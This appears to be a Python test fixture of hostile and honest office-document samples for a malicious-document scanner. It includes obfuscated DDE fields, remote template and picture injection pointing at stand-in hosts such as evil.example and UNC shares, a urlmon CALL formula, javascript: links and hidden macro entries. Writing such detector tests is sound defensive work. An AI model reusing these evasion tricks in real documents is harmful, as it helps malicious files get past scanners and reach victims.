"""Variants that were written against the finished rules: some got in, and mended them."""

import struct

from tests.integrations.compound_files import compound, doc, old_word_stream, word_streams
from tests.integrations.file_samples import archive, docx, odt, relationships, rtf
from tests.integrations.office_corpus.docx_parts import drawing, nested, part, related, runs
from tests.integrations.office_corpus.docx_parts import field as docx_field
from tests.integrations.office_corpus.embedded_files import pptx, within, xlsx
from tests.integrations.office_corpus.rtf_files import coded, field
from tests.integrations.office_corpus.table import (
    ACTIVE,
    DAMAGED,
    DISGUISED,
    LOCAL,
    MACROS,
    NOTHING,
    REMOTE,
    UNC,
    Honest,
    Hostile,
)

_XFORMS = 'xmlns:xforms="http://www.w3.org/2002/xforms"'


def shape(address: str, kept: int = 0x0A) -> bytes:
    """The properties of a shape whose picture is linked."""
    name = address.encode("utf-16-le") + b"\0\0"
    entries = struct.pack("<HIHI", 0xC105, len(name), 0x0106, kept)
    return struct.pack("<HHI", 2 << 4 | 3, 0xF00B, len(entries) + len(name)) + entries + name


def _lying_version() -> bytes:
    """Word 97 that calls itself Word 6, so that the text is looked for elsewhere."""
    document, table = word_streams("\x13DDEAUTO x\x15", version=0x65)
    block = bytearray(document)
    struct.pack_into("<2I", block, 24, 0, 0)
    return compound({"WordDocument": bytes(block), "1Table": table})


def _short_strings() -> bytes:
    """The associated strings of Word 97 in bytes."""
    document, table = word_streams()
    strings = struct.pack("<2H", 2, 0) + b"\0" + bytes([len(UNC)]) + UNC.encode()
    block = bytearray(document)
    struct.pack_into("<2I", block, 154 + 8 * 32, len(table), len(strings))
    return compound({"WordDocument": bytes(block), "1Table": table + strings})


def _between() -> bytes:
    """A DOCX with a second archive's entry between two of its own, which the directory does not name."""
    content = docx()
    hidden = archive({"word/vbaProject.bin": b"x" * 400}, stored=("word/vbaProject.bin",))
    hidden = hidden[: hidden.index(b"PK\x01\x02")]
    end = content.rindex(b"PK\x05\x06")
    (directory,) = struct.unpack_from("<I", content, end + 16)
    shifted = bytearray(content[:directory] + hidden + content[directory:])
    struct.pack_into("<I", shifted, end + len(hidden) + 16, directory + len(hidden))
    return bytes(shifted)


HOSTILE: Hostile = {
    "rtf: DDE behind a word that stands in for a code": (rtf(field("\\u68\\b DE x")), ACTIVE),
    "rtf: DDE behind a group that stands in for a code": (rtf(field("\\u68{X}DE x")), ACTIVE),
    "rtf: DDE in a code page of big machines": (
        b"{\\rtf1\\ansi\\ansicpg37 " + field("\\'c4\\'c4\\'c5 x").encode() + b"}",
        DAMAGED,
    ),
    "rtf: DDE in UTF-7": (b"{\\rtf1\\ansi\\ansicpg65000 " + field("+AEQARABF- x").encode() + b"}", DAMAGED),
    "rtf: DDE in a code page of a font": (rtf("{\\fonttbl{\\f1\\cpg500 A;}}" + field("\\f1\\'c4 x")), DAMAGED),
    "rtf: field word in capitals": (rtf("{\\field{\\*\\FLDINST DDE x}}"), ACTIVE),
    "rtf: field word with a number": (rtf("{\\field{\\*\\fldinst0 DDE x}}"), ACTIVE),
    "rtf: field in a result of a field": (rtf(field("PAGE", "{\\b " + field("DDE x") + "}")), ACTIVE),
    "rtf: marks of fields in numbers": (rtf("\\u19?DDE x\\u21?"), ACTIVE),
    "rtf: name from a bookmark": (rtf(field(field("REF a") + " x")), ACTIVE),
    "rtf: name from a property": (rtf(field("DDE" + field("DOCPROPERTY a"))), ACTIVE),
    "rtf: QUOTE of a text field": (rtf(field('QUOTE "INCLUDETEXT" "//evil/x"')), ACTIVE),
    "rtf: template behind an unknown destination": (rtf("{\\*\\template {\\*\\foo C:\\\\a}\\\\\\\\evil\\\\x}"), REMOTE),
    "rtf: template in capitals": (rtf("{\\*\\TEMPLATE http://evil.example/x}"), REMOTE),
    "rtf: template by a device": (rtf("{\\*\\template \\\\\\\\.\\\\UNC\\\\evil\\\\x}"), REMOTE),
    "rtf: template with a blank of no width": (rtf("{\\*\\template ht\\u8203?tp://evil.example/x}"), REMOTE),
    "rtf: template with a line in it": (rtf("{\\*\\template ht\r\ntp://evil.example/x}"), REMOTE),
    "rtf: value before its name": (rtf("{\\sp{\\sv //evil/x}{\\sn pibName}}"), REMOTE),
    "rtf: value in groups": (rtf("{\\sp{\\sn {\\b pib}Name}{\\sv {//ev}il/x}}"), REMOTE),
    "rtf: base of addresses on a server": (rtf("{\\info{\\hlinkbase //evil/x}}"), REMOTE),
    "rtf: data field": (rtf(field("DATA //evil/x")), REMOTE),
    "rtf: picture field with slashes of both kinds": (rtf(field('INCLUDEPICTURE "/\\\\\\\\evil/x"')), REMOTE),
    "rtf: picture field with an address in single quotes": (rtf(field("INCLUDEPICTURE '//evil/x'")), REMOTE),
    "rtf: picture field with an open quote": (rtf(field('INCLUDEPICTURE "//evil/x')), REMOTE),
    "rtf: picture field in codes": (rtf(field(coded('INCLUDEPICTURE "//evil/x"'))), REMOTE),
    "rtf: picture field behind a format": (
        rtf(field('INCLUDEPICTURE \\\\* MERGEFORMAT "//evil/x"')),
        REMOTE,
    ),
    "rtf: object in a header": (rtf("{\\header{\\pard{\\object}}}"), ACTIVE),
    "rtf: class of an object": (rtf("{\\*\\objclass Package}"), ACTIVE),
    "doc: version that is not so": (_lying_version(), ACTIVE),
    "doc: template in short letters": (_short_strings(), REMOTE),
    "doc: linked picture in the drawings": (doc({"Data": bytes(68) + shape(UNC) + bytes(5000)}), REMOTE),
    "doc: linked picture in small data": (doc({"Data": shape(UNC)}), REMOTE),
    "doc: linked picture not kept": (doc({"Data": shape("file://evil/x", 0x04)}), REMOTE),
    "doc: DDE in capitals of two kinds": (doc(text="\x13dDeAuTo x\x15"), ACTIVE),
    "doc: DDE behind a column": (doc(text="\x13\x0e\x07DDE x\x15"), ACTIVE),
    "doc: DDE with marks of no width": (doc(text="\x13D\u200dD\u2060E x\x15", wide=True), ACTIVE),
    "doc: DDE behind a picture": (doc(text="\x13\x01DDE x\x15"), ACTIVE),
    "doc: DDE in one letter a piece": (doc(text="\x13DDEAUTO\x15", pieces=9), ACTIVE),
    "doc: DDE in the text of Word 95, wide": (
        compound({"WordDocument": old_word_stream("\x13\0D\0D\0E\0 \0x\0\x15\0", flags=0x1000)}),
        ACTIVE,
    ),
    "doc: macros in a storage of Excel": (doc({"_VBA_PROJECT_CUR": {"VBA": {}}}), MACROS),
    "doc: macros below another storage": (doc({"X": {"Y": {"VBA": {"dir": b"x"}}}}), MACROS),
    "doc: packaged program below another storage": (doc({"X": {"\x01OLE10NATIVE": b"x"}}), ACTIVE),
    "doc: control below another storage": (doc({"X": {"\x03OCXDATA": b"x"}}), ACTIVE),
    "doc: text field of an old name": (doc(text="\x13INCLUDE //evil/x\x15"), REMOTE),
    "doc: database by name of a server": (doc(text='\x13DATABASE \\d "" \\c "Server = evil"\x15'), REMOTE),
    "doc: master of parts on a server": (doc(text="\x13RD \\f //evil/x\x15"), REMOTE),
    "docx: template without a mode": (related("attachedTemplate", "http://evil.example/t", external=False), REMOTE),
    "docx: picture without a mode": (related("image", UNC, external=False), REMOTE),
    "docx: template of a part that is none": (related("attachedTemplate", UNC, part="x/_rels/nothing.rels"), REMOTE),
    "docx: relations elsewhere": (
        docx({"word/notes.xml": relationships(("attachedTemplate", UNC, True))}),
        REMOTE,
    ),
    "docx: base of addresses on a server": (
        docx({"docProps/app.xml": "<Properties><HyperlinkBase>\\\\evil\\x\\</HyperlinkBase></Properties>"}),
        REMOTE,
    ),
    "docx: DDE over a moved text": (
        docx(body=docx_field(runs("D") + "<w:moveTo>" + runs("DE x") + "</w:moveTo>")),
        ACTIVE,
    ),
    "docx: DDE in a smart tag": (
        docx(body=docx_field("<w:smartTag>" + runs("D", "DE") + "</w:smartTag>" + runs(" x"))),
        ACTIVE,
    ),
    "docx: DDE behind a hyphen": (
        docx(body=docx_field("<w:r><w:softHyphen/></w:r>" + runs("DDE x"))),
        ACTIVE,
    ),
    "docx: DDE in the glossary": (
        docx({"word/glossary/document.xml": part(docx_field("DDE x"))}),
        ACTIVE,
    ),
    "docx: DDE in a comment": (docx({"word/comments.xml": part(docx_field("DDE x"), "comments")}), ACTIVE),
    "docx: DDE in UTF-16 without a mark": (
        docx({"word/h.xml": part(docx_field("DDE x")).encode("utf-16-le")}),
        ACTIVE,
    ),
    "docx: name from a form": (docx(body=docx_field(nested("FORMTEXT") + runs("x"))), ACTIVE),
    "docx: second instruction": (
        docx(body=docx_field(runs("PAGE"), nested("DDE x"))),
        ACTIVE,
    ),
    "docx: drawing with a base": (docx({"a.svg": drawing(attributes='xml:base="//evil/x"')}), REMOTE),
    "docx: drawing with a page": (docx({"a.svg": drawing("<foreignObject/>")}), ACTIVE),
    "docx: entry between": (_between(), DISGUISED),
    "docx: extension of the document": (
        docx({"word/settings.xml": '<sl:schema xmlns:sl="s" sl:manifestLocation="http://evil.example/x"/>'}),
        REMOTE,
    ),
    "embedded: mouse over a slide": (within(pptx({"ppt/slides/s.xml": "<a><hlinkMouseOver/></a>"})), ACTIVE),
    "embedded: text of a sheet on a server": (
        within(xlsx({"xl/connections.xml": "<a><textPr sourceFile='\\\\evil\\x'/></a>"})),
        ACTIVE,
    ),
    "embedded: formula in a name": (
        within(xlsx({"xl/w.xml": "<definedName>a|'x'!A0</definedName>"})),
        ACTIVE,
    ),
    "embedded: formula of a library": (within(xlsx(formula="CALL(&quot;urlmon&quot;,&quot;x&quot;)")), ACTIVE),
    "odt: module of an inner object": (odt({"Object 1/Basic/Standard/M.xml": "<a/>"}), MACROS),
    "odt: script of an inner object": (odt({"Object 1/Scripts/python/x.py": "x"}), MACROS),
    "odt: object in the text itself": (
        odt(body="<draw:object-ole>0M8R</draw:object-ole>"),
        ACTIVE,
    ),
    "odt: base of addresses": (odt({"styles.xml": '<a xml:base="file://server/share/"/>'}), REMOTE),
    "odt: data of a form, fetched": (
        odt(body=f'<xforms:instance {_XFORMS} src="https://evil.example/x"/>'),
        REMOTE,
    ),
    "odt: macro of an error": (odt(body='<text:error-macro text:execute="true"/>'), MACROS),
    "odt: picture behind blanks": (odt(body='<draw:image xlink:href=" &#10;//server/x"/>'), REMOTE),
    "odt: picture by letters of no width": (odt(body='<draw:image xlink:href="/\u200b/server/x"/>'), REMOTE),
    "odt: picture by a device": (odt(body='<draw:image xlink:href="\\\\?\\UNC\\server\\x"/>'), REMOTE),
    "odt: picture by a host of the reader's": (odt(body='<draw:image xlink:href="file://127.0.0.1/c$/x"/>'), REMOTE),
    "odt: picture by FTP script": (odt(body='<draw:image xlink:href="javascript:x"/>'), MACROS),
    "odt: sound": (odt(body='<draw:sound xlink:href="https://evil.example/x.wav"/>'), REMOTE),
    "odt: command of a link in a menu": (
        odt({"Configurations2/menubar/m.xml": '<a xmlns:x="http://www.w3.org/1999/xlink" x:href="macro:///S.M.x"/>'}),
        MACROS,
    ),
    "odt: drawing that fetches a style": (
        odt({"Pictures/a": drawing(attributes='style="fill:url(//evil/x)"')}),
        REMOTE,
    ),
    "odt: style sheet": (odt({"styles.xml": '<?xml-stylesheet type="text/xsl" href="//evil/x"?><a/>'}), REMOTE),
    "odt: entry behind the text": (odt({"x/../../y": "a"}), DAMAGED),
}

HONEST: Honest = {
    "rtf: letters in codes without a fallback": (rtf("{\\uc0\\u8217 \\b Policy}"), NOTHING),
    "rtf: code page of a Mac": (b"{\\rtf1\\mac\\ansicpg10000 Policy}", NOTHING),
    "doc: picture from a share that is kept": (doc({"Data": shape(UNC, 0x01)}), NOTHING),
    "doc: linked picture of the drive": (doc({"Data": shape("C:\\a.png")}), LOCAL),
    "docx: path from the root of the package": (related("image", "/word/media/a.png", external=False), NOTHING),
    "docx: base of addresses on the web": (
        docx({"docProps/app.xml": "<Properties><HyperlinkBase>https://example.org/</HyperlinkBase></Properties>"}),
        NOTHING,
    ),
    "odt: button with an address": (odt(body='<text:button xlink:href="https://example.org/"/>'), NOTHING),
}
